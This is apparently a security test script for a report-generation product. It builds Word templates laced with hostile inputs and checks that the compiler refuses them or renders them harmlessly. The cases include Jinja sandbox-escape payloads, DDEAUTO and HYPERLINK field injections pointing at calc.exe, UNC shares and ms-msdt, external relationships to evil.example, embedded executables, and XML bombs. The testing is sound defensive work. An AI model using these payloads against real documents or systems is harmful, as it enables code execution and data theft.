"""Hostile Word templates: `python tests/attacks/templates.py FOLDER [PART OF A LABEL]`.

Each case is put into a copy of the product's template. Expected: refused in words; or a report in which nothing ran,
nothing points outside and every part parses. Prints what passed the door and what came of it.
"""

from __future__ import annotations

import io
import os
import resource
import select
import signal
import sys
import time
import zipfile
from pathlib import Path

from lxml import etree

from perfmon_xl import app
from perfmon_xl.domain.errors import UserError
from perfmon_xl.domain.figures import figures_of
from perfmon_xl.report.render import ProvenanceOptions
from perfmon_xl.report.sandbox_process import render_confined
from perfmon_xl.report.template.compiled import compile_template
from perfmon_xl.report.template.package import checked_package
from perfmon_xl.report.tracing.provenance import BuildInfo
from perfmon_xl.report.tracing.sources import Sources
from perfmon_xl.report.wording.compose import compose
from perfmon_xl.system.resources import folder
from perfmon_xl.workbook.file.book import PackageBook
from perfmon_xl.workbook.read import read

WORK = Path(sys.argv[1])
WORK.mkdir(parents=True, exist_ok=True)
TEMPLATE = (folder("report_templates") / "monitoring_report.docx").read_bytes()
BOOK = WORK / "示例项目.xlsx"
if not BOOK.exists():
    app.demo(WORK, say=lambda _: None)
DOC, RELS, TYPES, SETTINGS = (
    "word/document.xml",
    "word/_rels/document.xml.rels",
    "[Content_Types].xml",
    "word/settings.xml",
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def part(name: str, data: bytes = TEMPLATE) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read(name)


def package(changed: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(TEMPLATE)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, changed.pop(name, None) or old.read(name))
        for name, data in changed.items():
            new.writestr(name, data)
    return out.getvalue()


def body(xml: str) -> bytes:
    return package({DOC: part(DOC).replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)})


def text(*runs: str) -> bytes:
    inside = "".join(
        f'<w:r><w:t xml:space="preserve">{r.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")}</w:t></w:r>'
        for r in runs
    )
    return body(f"<w:p>{inside}</w:p>")


def related(kind: str, target: str, mode: str = ' TargetMode="External"', rels: str = RELS) -> bytes:
    one = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    return package({rels: part(rels).replace(b"</Relationships>", one.encode())})


def field(*codes: str, before: str = "", simple: bool = False) -> bytes:
    if simple:
        return body(f'<w:p><w:fldSimple w:instr="{codes[0]}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{c}</w:instrText></w:r>' for c in codes)
    return body(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{before}{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


CASES: dict[str, object] = {}
for number, expression in enumerate(
    [
        "{{ 项目.名称.__class__ }}",
        "{{ 项目['__class__'] }}",
        "{{ 项目|attr('__class__') }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ 合并.__globals__ }}",
        "{{ 合并.__globals__['__builtins__'] }}",
        "{{ 合并['__globals__'] }}",
        "{{ 合并|string }}",
        "{{ 合并 }}",
        "{{ loop }}",
        "{% for 行 in 表4 %}{{ loop }}{% endfor %}",
        "{% for 行 in 表4 %}{{ loop.previtem }}{% endfor %}",
        "{% for 行 in 表4 %}{{ loop.nextitem.__class__ }}{% endfor %}",
        "{% for 行 in 表4 %}{{ loop['__init__'] }}{% endfor %}",
        "{% for 行 in 表4 %}{{ loop.cycle('a') }}{% endfor %}",
        "{% for 行 in 表4 recursive %}{{ loop(表4) }}{% endfor %}",
        "{{ '%s' % 项目 }}",
        "{{ '{0.__class__}'.format(项目) }}",
        "{{ '{}'|format(项目) }}",
        "{{ 项目|map(attribute='__class__')|list }}",
        "{{ 表4|map('upper')|list }}",
        "{{ 表4|sort(attribute='__class__') }}",
        "{{ 表4|sum(attribute='__class__') }}",
        "{{ 表4|unique(attribute='__class__')|first }}",
        "{{ 表4|join(attribute='__class__') }}",
        "{{ 表4|join('', '__class__') }}",
        "{{ 表4|sum('__class__') }}",
        "{{ 表4|sort(False, False, '__class__')|first }}",
        "{{ 进展|join(',', attribute='__class__.__mro__') }}",
        "{{ 表4|join('', attribute='实际值.__class__') }}",
        "{{ 表4|sum(attribute='实际值.__class__', start='') }}",
        "{{ namespace() }}",
        "{{ cycler('a') }}",
        "{{ joiner() }}",
        "{{ lipsum(1000000) }}",
        "{{ range(999999999) }}",
        "{{ dict(a=1) }}",
        "{{ self }}",
        "{{ self.__init__ }}",
        "{{ super() }}",
        "{{ caller() }}",
        "{{ varargs }}",
        "{{ kwargs }}",
        "{{ request }}",
        "{{ config }}",
        "{{ get_flashed_messages }}",
        "{{ _ }}",
        "{{ gettext('x') }}",
        "{{ context }}",
        "{{ environment }}",
        "{{ 报告 }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as o %}",
        "{% from 'os' import path %}",
        "{% extends 'x' %}",
        "{% block a %}{% endblock %}",
        "{% macro 甲() %}{{ 甲() }}{% endmacro %}",
        "{% call 合并('a','b') %}{% endcall %}",
        "{% filter upper %}x{% endfilter %}",
        "{% with a=1 %}{{ a }}{% endwith %}",
        "{% set a %}x{% endset %}",
        "{% autoescape true %}{% endautoescape %}",
        "{% do 1 %}",
        "{% debug %}",
        "{% trans %}x{% endtrans %}",
        "{% raw %}{{ 7*7 }}{% endraw %}",
        "{% continue %}",
        "{{ 'a'*99999999999 }}",
        "{{ 9**9**9 }}",
        "{{ 9//0 }}",
        "{{ 1 if 1/0 }}",
        "{{ 'a'|center(999999999) }}",
        "{{ 'a'|indent(99999999) }}",
        "{{ 'a'|batch(2) }}",
        "{{ 'a'|tojson }}",
        "{{ 'a'|xmlattr }}",
        "{{ 'a'|safe }}",
        "{{ 'a'|e }}",
        "{{ 'a'|urlize }}",
        "{{ 'a'|wordwrap(1) }}",
        "{{ 'a'|pprint }}",
        "{{ 'a'|filesizeformat }}",
        "{{ 'a'|random }}",
        "{{ 'x'|replace('', 'y') }}",
        "{{ 项目.名称|replace('', '甲'|replace('甲', '乙')) }}",
        "{{ '9'|int(base=36) }}",
        "{{ '９'|int }}",
        "{{ ('9'|replace('9','99999999999999999999'))|int }}",
        "{{ 1|round(999999999) }}",
        "{{ 1|round(-999999999) }}",
        "{{ 1|round(method='__class__') }}",
        "{{ 1.5|round(2, 'floor') }}",
        "{{ 1e308|int }}",
        "{{ (1e308+1e308)|int }}",
        "{{ (1e308+1e308)|round }}",
        "{{ 'nan'|int }}",
        "{{ -'a' }}",
        "{{ 'a'+1 }}",
        "{{ [1,2,3][99] }}",
        "{{ 表4[999999].实际值 }}",
        "{{ 表4['x'] }}",
        "{{ 表4[::0] }}",
        "{{ 表4[1:2:'x'] }}",
        "{{ 项目.名称[999] }}",
        "{{ 'x'|sort(attribute=1) }}",
        "{{ 'x'|sum }}",
        "{{ 表4|sum }}",
        "{{ 项目.名称|sum }}",
        "{{ 1|length }}",
        "{{ none|length }}",
        "{{ 1|join }}",
        "{{ 1|first }}",
        "{{ 1|list }}",
        "{{ 1 < 'a' }}",
        "{{ 'a' in 1 }}",
        "{{ 1 is in 2 }}",
        "{{ 'a' is lt 1 }}",
        "{{ ['a',1]|sort }}",
        "{% for a in 'x' %}{{ a.b }}{% endfor %}",
        "{% for a, b in 表4 %}{{ a }}{% endfor %}",
        "{% set a, b = 表4 %}{{ a }}",
        "{% set 项目.名称 = 'x' %}",
        "{% set 合并 = 项目 %}{{ 合并(1,2) }}",
        "{% set loop = 1 %}{{ loop }}",
        "{% for 合并 in 表4 %}{{ 合并('a','b') }}{% endfor %}",
        "{% for loop in 表4 %}{{ loop.index }}{% endfor %}",
        "{{ 合并(*表4) }}",
        "{{ 合并(**项目) }}",
        "{{ 合并('a') }}",
        "{{ 合并() }}",
        "{{ 合并(合并('a','b'),'c') }}",
        "{{ 合并(项目, 'x') }}",
        "{{ 合并(表4, 'x') }}",
        "{{ 合并('a','b','c') }}",
        "{{ 项目.名\u200b称 }}",
        "{{ 项目.ＮＡＭＥ }}",
        "{{ 𝑝rint }}",
        "{{ ｏｐｅｎ }}",
        "{{ 项目.﹍﹍class﹍﹍ }}",
        "{{ 项目.＿＿class＿＿ }}",
        "{# 甲 #}{{ 项目.名称 }}",
        "{#",
        "{{ '}}' }}",
        '{{ "{{" }}',
        "{{ '<w:p>' }}",
        "{{ '</w:t></w:r></w:p><w:p><w:r><w:instrText>DDEAUTO</w:instrText>' }}",
        "{{ '&lt;' }}",
        "{{ ']]>' }}",
        "{{ '\\x00' }}",
        "{{ '\\u0001' }}",
        "{{ '\\ud800' }}",
        "{{ '\\ufffe' }}",
        "{{ '\\uf8f0' }}",
        "{{ '\\u202e' }}",
        "{{ '\\x0b' }}",
        "{{ 1_000 }}",
        "{{ " + "9" * 5000 + " }}",
        "{{ 1e400 }}",
        "{{ " + "(" * 300 + "1" + ")" * 300 + " }}",
        "{{ " + "not " * 20000 + "1 }}",
        "{{ " + "-" * 20000 + "1 }}",
        "{{ [" * 1 + "[" * 5000 + "]" * 5000 + "] }}",
        "{% if 1 %}" * 120 + "x" + "{% endif %}" * 120,
        "{% if 1 %}" * 5000 + "x" + "{% endif %}" * 5000,
        "{% for a in 表4 %}" * 30 + "x" + "{% endfor %}" * 30,
        "{{ 1 " + "+ 1 " * 20000 + "}}",
        "{{ 'a' " + "~ 'a' " * 20000 + "}}",
        "{% set a = '一二三四五六七八' %}" + "{% set a = a ~ a %}" * 26 + "{{ a }}",
        "{% set a = 表4|list %}" + "{% set a = a + a %}" * 24 + "{{ a|length }}",
        "{% set a='x' %}" + "{% set a = a|replace('x','xxxxxxxxxx') %}" * 9 + "{{ a }}",
        "{% set a='x' %}" + "{% set a = a|replace('x','xxxxxxxxxx') %}" * 7 + "{{ a }}",
        "{%p if 1 %}",
        "{%tr for a in 表4 %}",
        "{%tc for a in 表4 %}",
        "{{r 项目.名称 }}",
        "{{tc 项目.名称 }}",
        "{%- if 1 -%}x{%- endif -%}",
        "{%+ if 1 %}x{% endif %}",
        "{% hm %}",
        "{% vm %}",
        "{% colspan 2 %}",
        "{% cellbg 'FF0000' %}",
        "{%r if 1 %}x{%r endif %}",
        "{_{ 项目 }_}",
        "{%_ x _%}",
        "# 项目",
        "{{ 项目.名称|default(项目) }}",
        "{{ 无|default('x') }}",
        "{{ 项目.没有|default('x') }}",
        "{{ 表4|list }}",
        "{{ (表4, 表4) }}",
        "{{ [表4] }}",
        "{{ 项目 ~ '' }}",
        "{{ 项目|string }}",
        "{{ 表4|string }}",
        "{{ 表4|first }}",
        "{{ 图 }}",
        "{{ 图|string }}",
        "{{ 图.资金 ~ '' }}",
        "{{ 图.资金|string }}",
        "{{ [图.资金]|join }}",
        "{{ 图.资金|upper }}",
        "{{ 项目.名称 == 项目 }}",
        "{{ 1 if 合并 else 2 }}",
        "{{ (合并 if 1 else 2)('a','b') }}",
        "{{ [合并][0]('a','b') }}",
        "{{ [合并]|first }}",
        "{{ 合并|default('x') }}",
        "{{ 合并 ~ '' }}",
        "{{ 合并|list }}",
        "{{ [合并]|join }}",
        "{{ [合并]|string }}",
        "{{ (合并, 合并) }}",
        "{{ [loop] }}",
        "{% set f = 合并 %}{{ f }}",
        "{% set f = 合并 %}{{ f('a','b') }}",
    ]
):
    CASES[f"jinja {number}: {expression[:60]}"] = lambda e=expression: text(e)
CASES |= {
    "split over runs": lambda: text("{", "{ 项目", ".__cl", "ass__ }", "}"),
    "split {%": lambda: text("{", "% include 'x' %", "}"),
    "tag over paragraphs": lambda: body(
        "<w:p><w:r><w:t>{{ 项目</w:t></w:r></w:p><w:p><w:r><w:t>.名称 }}</w:t></w:r></w:p>"
    ),
    "markup inside a tag": lambda: body(
        "<w:p><w:r><w:t>{{ 项目</w:t></w:r><w:r><w:drawing/><w:t>.名称 }}</w:t></w:r></w:p>"
    ),
    "tag with instrText inside": lambda: body(
        "<w:p><w:r><w:t>{{ 项目</w:t><w:instrText>DDE x</w:instrText><w:t>.名称 }}</w:t></w:r></w:p>"
    ),
    "statement opens markup": lambda: body(
        "<w:p><w:r><w:t>{% if 1 %}</w:t></w:r></w:p><w:p><w:r><w:t>x</w:t></w:r></w:p>"
    ),
    "statement in attribute": lambda: body(
        '<w:p><w:pPr><w:pStyle w:val="{% if 1 %}a{% endif %}"/></w:pPr></w:p>'
    ),
    "for around part of markup": lambda: body(
        "<w:p><w:r><w:t>{% for 行 in 表4 %}</w:t></w:r><w:r><w:t>a</w:t></w:r></w:p><w:p><w:r><w:t>{% endfor %}</w:t></w:r></w:p>"
    ),
    "statement in instrText": lambda: field("{% if 1 %}DDEAUTO cmd{% endif %}"),
    "comment in instrText": lambda: field("D{# x #}DE cmd"),
    "comment hides": lambda: field("{#", "#}DDEAUTO cmd"),
    "expression string in instrText": lambda: field("{{ 'DDEAUTO' }} cmd"),
    "brace split in instrText": lambda: field("{", "{ 'DDE' }", "} cmd"),
    "tag in footnotes": lambda: package(
        {
            "word/footnotes.xml": b'<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:footnote><w:p><w:r><w:t>{{ x }}</w:t></w:r></w:p></w:footnote></w:footnotes>'
        }
    ),
    "header with odd name": lambda: package(
        {
            "word/header99.xml": '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:r><w:t>{{ 项目.__class__ }}</w:t></w:r></w:p></w:hdr>'.encode()
        }
    ),
    # fields
    "nested field builds DDE": lambda: field(
        before='<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    ),
    "nested result as code": lambda: field(
        ' cmd "x"',
        before='<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1=1 "DDEAUTO" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
    ),
    "w:t in the code": lambda: body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:t>DDEAUTO cmd</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
    "delInstrText": lambda: body(
        '<w:p><w:del w:id="1" w:author="a"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:delInstrText>DDEAUTO cmd</w:delInstrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:del></w:p>'
    ),
    "over paragraphs": lambda: body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r></w:p><w:p><w:r><w:instrText>AUTO cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
    "no end": lambda: body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>'
    ),
    "backslash first": lambda: field("\\DDEAUTO cmd"),
    "quoted name": lambda: field('"DDEAUTO" cmd'),
    "nbsp": lambda: field("\u00a0DDEAUTO cmd"),
    "zero width": lambda: field("\u200bDDEAUTO cmd"),
    "soft hyphen": lambda: field("DDE\u00adAUTO cmd"),
    "full-width": lambda: field("ＤＤＥＡＵＴＯ cmd"),
    "tab": lambda: field("&#9;DDEAUTO cmd"),
    "upper i dotless": lambda: field("ıncludetext x"),
    "HYPERLINK file": lambda: field(' HYPERLINK "file:///c:/windows/system32/calc.exe" '),
    "HYPERLINK unc": lambda: field(' HYPERLINK "\\\\\\\\evil\\\\share\\\\x.exe" '),
    "HYPERLINK js": lambda: field(' HYPERLINK "javascript:alert(1)" '),
    "HYPERLINK ms-msdt": lambda: field(' HYPERLINK "ms-msdt:/id PCWDiagnostic" '),
    "simple HYPERLINK file": lambda: field(" HYPERLINK &quot;file:///c:/x.exe&quot; ", simple=True),
    "REF": lambda: field(" SET a x"),
    "IF": lambda: field(' IF 1 = 1 "a" "b" '),
    "GOTOBUTTON": lambda: field(" GOTOBUTTON x "),
    "FILENAME": lambda: field(" FILENAME \\p "),
    "USERNAME": lambda: field(" USERNAME "),
    "DOCPROPERTY": lambda: field(" DOCPROPERTY x "),
    "AUTOTEXT": lambda: field("AUTOTEXT x"),
    "BARCODE": lambda: field("BARCODE x"),
    "DISPLAYBARCODE": lambda: field("DISPLAYBARCODE x QR"),
    "SHAPE": lambda: field("SHAPE x"),
    "NEXT": lambda: field("NEXT"),
    "MERGEFIELD": lambda: field("MERGEFIELD a"),
    "BIBLIOGRAPHY": lambda: field("BIBLIOGRAPHY"),
    "INCLUDEPICTURE in header": lambda: package(
        {
            "word/header1.xml": b'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:fldSimple w:instr="INCLUDEPICTURE http://e/a.png"/></w:p></w:hdr>'
        }
    ),
    "REFERENCED doc RD": lambda: field(" RD x.docx"),
    "field in glossary": lambda: package(
        {
            "word/glossary/document.xml": b'<w:glossaryDocument xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:instrText>DDEAUTO cmd</w:instrText></w:glossaryDocument>'
        }
    ),
    "field in another namespace (strict)": lambda: body(
        '<w:p><x:fldSimple xmlns:x="http://purl.oclc.org/ooxml/wordprocessingml/main" x:instr="DDEAUTO cmd"/></w:p>'
    ),
    "instr without namespace": lambda: body('<w:p><w:fldSimple instr="DDEAUTO cmd"/></w:p>'),
    "part outside word/": lambda: package(
        {
            "custom/document2.xml": b'<w:instrText xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">DDEAUTO cmd</w:instrText>'
        }
    ),
    # relations
    **{
        f"rel {k} {t}": (lambda k=k, t=t, m=m: related(k, t, m))
        for k, t, m in [
            ("attachedTemplate", "file:///c:/x.dotm", ' TargetMode="External"'),
            ("attachedTemplate", "http://e/x", ' TargetMode="external"'),
            ("attachedTemplate", "x.dotm", ""),
            ("image", "file:///c:/a.png", ""),
            ("image", "//evil/share/a.png", ""),
            ("image", "\\\\evil\\a.png", ""),
            ("image", "http:&#47;&#47;e/a", ""),
            ("image", "http:%2f%2fe/a", ' TargetMode="External"'),
            ("hyperlink", "https://evil.example/", ' TargetMode="External"'),
            ("hyperlink", "HTTPS:\\\\evil\\share", ' TargetMode="External"'),
            ("hyperlink", "http://\x7f", ' TargetMode="External"'),
            ("hyperlink", " javascript:x", ' TargetMode="External"'),
            ("hyperlink", "file:x", ""),
            ("hyperlink", "c:\\windows\\calc.exe", ""),
            ("hyperlink", "\\\\evil\\share\\x.exe", ""),
            ("hyperlink", "mailto:x?attach=c:/x", ' TargetMode="External"'),
            ("oleObject", "embeddings/x.bin", ""),
            ("package", "embeddings/x.xlsx", ""),
            ("package", "embeddings/x.docm", ""),
            ("customXml", "http://e/x", ' TargetMode="External"'),
            ("frame", "http://e", ' TargetMode="External"'),
            ("font", "http://e/f", ' TargetMode="External"'),
            ("theme", "http://e/t", ' TargetMode="External"'),
            ("settings", "//e/t", ""),
            ("vbaProject", "x.bin", ""),
            ("wordVbaData", "vbaData.xml", ""),
            ("webSettings", "http://e", ' TargetMode="External"'),
            ("aFChunk", "chunk.html", ""),
            ("keyMapCustomizations", "customizations.xml", ""),
            ("chart", "http://e", ' TargetMode="External"'),
        ]
    },
    "rels of rels": lambda: package(
        {
            "_rels/.rels": part("_rels/.rels").replace(
                b"</Relationships>",
                b'<Relationship Id="rX" Type="x/attachedTemplate" Target="http://e/x" TargetMode="External"/></Relationships>',
            )
        }
    ),
    "rels in upper case": lambda: package(
        {
            "word/_rels/settings.xml.RELS": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="x/attachedTemplate" Target="http://e/x.dotm" TargetMode="External"/></Relationships>'
        }
    ),
    "rels utf-16": lambda: package(
        {
            "word/_rels/settings.xml.rels": '<?xml version="1.0" encoding="UTF-16"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="x/attachedTemplate" Target="http://e/x.dotm" TargetMode="External"/></Relationships>'.encode(
                "utf-16"
            )
        }
    ),
    "frameset in webSettings": lambda: package(
        {
            "word/webSettings.xml": b'<w:webSettings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>'
        }
    ),
    "embedded exe as png": lambda: package({"word/media/a.png": b"MZ" + bytes(100)}),
    "embedded .lnk": lambda: package({"word/embeddings/a.lnk": b"x"}),
    "embedded .docm": lambda: package({"word/embeddings/a.docm": b"PK"}),
    "embedded .xlsm": lambda: package({"word/embeddings/a.xlsm": b"PK"}),
    "embedded .bat": lambda: package({"word/a.bat": b"x"}),
    "embedded .ps1": lambda: package({"word/a.ps1": b"x"}),
    "customUI": lambda: package(
        {
            "customUI/customUI14.xml": b'<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="x"/>',
            "_rels/.rels": part("_rels/.rels").replace(
                b"</Relationships>",
                b'<Relationship Id="rX" Type="http://schemas.microsoft.com/office/2007/relationships/ui/extensibility" Target="customUI/customUI14.xml"/></Relationships>',
            ),
        }
    ),
    "taskpane web extension": lambda: package(
        {
            "word/webextensions/webextension1.xml": b'<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="x"><we:reference id="wa1" version="1" store="https://evil" storeType="Registry"/></we:webextension>'
        }
    ),
    "custom xml binding": lambda: body(
        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{0}"/></w:sdtPr><w:sdtContent><w:p><w:r><w:t>{{ 项目.名称 }}</w:t></w:r></w:p></w:sdtContent></w:sdt>'
    ),
    "altChunk without rel": lambda: body('<w:altChunk r:id="rId99" xmlns:r="x"/>'),
    "object tag": lambda: body(
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Excel.Sheet" r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></w:object></w:r></w:p>'
    ),
    "vml imagedata src": lambda: body(
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://evil.example/a.png"/></v:shape></w:pict></w:r></w:p>'
    ),
    "vml href": lambda: body(
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="file:///c:/windows/calc.exe"/></w:pict></w:r></w:p>'
    ),
    "macro attribute": lambda: body(
        '<w:p><w:r><w:drawing><wps:wsp xmlns:wps="x" macro="evil"/></w:drawing></w:r></w:p>'
    ),
    "bookmark like ours": lambda: body(
        '<w:p><w:bookmarkStart w:id="9" w:name="_pm_1"/><w:r><w:t>1</w:t></w:r><w:bookmarkEnd w:id="9"/></w:p>'
    ),
    # malformed or costly XML
    "deep w:p": lambda: body("<w:tbl><w:tr><w:tc>" * 900 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 900),
    "deep 100k": lambda: body("<w:sdt>" * 100_000 + "</w:sdt>" * 100_000),
    "100k attributes": lambda: body("<w:p " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>"),
    "50k namespaces": lambda: body("<w:p " + " ".join(f'xmlns:n{n}="u{n}"' for n in range(50_000)) + "/>"),
    "100k empty cells open": lambda: body(
        "<w:tbl><w:tr>" + "<w:tc><w:p/></w:tc>" * 50_000 + "</w:tr></w:tbl>"
    ),
    "one 8 MB text": lambda: text("甲" * 2_700_000),
    "100k braces": lambda: text("{" * 100_000),
    "100k tags": lambda: text("{{ 项目.名称 }}" * 20_000),
    "100k pairs of braces": lambda: text("{{}}" * 50_000),
    "100k if": lambda: text("{% if 1 %}{% endif %}" * 20_000),
    "100k open comments": lambda: text("{#" * 50_000 + "#}" * 50_000),
    "full-width braces": lambda: text("｛｛" * 50_000),
    "nul byte": lambda: package({DOC: part(DOC) + b"\0"}),
    "wrong encoding declared": lambda: package(
        {DOC: b'<?xml version="1.0" encoding="gb2312"?>' + part(DOC).split(b"?>", 1)[1]}
    ),
    "styles missing": lambda: package({"word/styles.xml": b"<a/>"}),
    "styles with odd levels": lambda: package(
        {"word/styles.xml": part("word/styles.xml").replace(b'w:styleId="', b'w:styleId="&quot;/&gt;&lt;x ')}
    ),
    "empty document": lambda: package(
        {DOC: b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'}
    ),
    "numbering bomb": lambda: package(
        {
            "word/numbering.xml": b"<w:numbering xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'>"
            + b"<w:num/>" * 100_000
            + b"</w:numbering>"
        }
    ),
}

DOOR = 8


def forked(action) -> str:
    """The action in a copy of this process, with a clock and 2 GiB: what it raised, or nothing."""
    read_end, write_end = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(read_end)
        resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))
        try:
            action()
            said = ""
        except BaseException as error:
            said = f"{type(error).__name__} {error}"
        os.write(write_end, said.encode("utf-8", "replace")[:4000])
        os._exit(0)
    os.close(write_end)
    ready, _, _ = select.select([read_end], [], [], DOOR)
    said = os.read(read_end, 5000).decode("utf-8", "replace") if ready else "too long"
    os.close(read_end)
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
    return said


def main(only: str) -> None:
    reading = read(PackageBook.open(BOOK))
    RULES = app.rules_of(reading.monitoring)
    CONTEXT = compose(figures_of(reading.monitoring, RULES), draft=True, matters=())
    KEEPING = ProvenanceOptions(
        BuildInfo(program="x", rule_set=RULES.name, rules="x", template="模板", entries="x", draft=True),
        Sources(reading.monitoring),
        False,
    )
    tried = refused = 0
    for label, make in CASES.items():
        if only and only not in label:
            continue
        tried += 1
        path = WORK / "模板.docx"
        path.write_bytes(make())
        start = time.monotonic()
        try:
            data = checked_package(path)
            said = forked(lambda name=path.stem, d=data: compile_template(name, d))
            if said == "too long":
                print(
                    f"door takes over {DOOR} s in this process (the product compiles in a confined child) {label[:70]}",
                    flush=True,
                )
            elif said.startswith("UserError "):
                raise UserError(said[10:])
            elif said.startswith(("MemoryError", "RecursionError")):
                raise MemoryError(said)  # the product compiles in a confined child, which then says: too much
            elif said:
                raise RuntimeError(said)
        except UserError as error:
            refused += 1
            spent = time.monotonic() - start
            if spent > 5 or "Error" in str(error) or " at 0x" in str(error):
                print(f"REFUSED {spent:6.1f}s {label[:70]} | {str(error)[:140]!r}", flush=True)
            continue
        except (MemoryError, RecursionError) as error:
            print(f"too much at the door {label[:70]} | {str(error)[:60]}", flush=True)
            continue
        except Exception as error:
            print(
                f"FAULT   {time.monotonic() - start:6.1f}s at the door {label[:70]} | {type(error).__name__} {str(error).splitlines()[-1][:160] if str(error) else ''}",
                flush=True,
            )
            continue
        try:
            made = render_confined(path.name, data, CONTEXT, KEEPING, pages="estimate")
        except UserError as error:
            refused += 1
            spent = time.monotonic() - start
            print(f"late refusal {spent:6.1f}s {label[:70]} | {str(error)[:150]!r}", flush=True)
            continue
        except Exception as error:
            print(
                f"FAULT   {time.monotonic() - start:6.1f}s {label[:70]} | {type(error).__name__} {str(error).splitlines()[-1][:160] if str(error) else ''}",
                flush=True,
            )
            continue
        spent = time.monotonic() - start
        with zipfile.ZipFile(io.BytesIO(made)) as z:
            broken = []
            for name in z.namelist():
                if name.endswith((".xml", ".rels")):
                    try:
                        etree.fromstring(z.read(name), etree.XMLParser(huge_tree=True))
                    except etree.XMLSyntaxError as error:
                        broken.append(f"{name}: {error}")
            whole = z.read(DOC)
        plain = (
            "".join(etree.fromstring(whole, etree.XMLParser(huge_tree=True)).itertext())[:80]
            if not broken
            else ""
        )
        print(
            f"{'BROKEN ' if broken else 'passed '} {spent:6.1f}s {label[:70]} | {plain[:60]!r} {broken[:1]}",
            flush=True,
        )
    print(f"{tried} tried, {refused} refused")


if __name__ == "__main__":
    main(sys.argv[2] if len(sys.argv) > 2 else "")
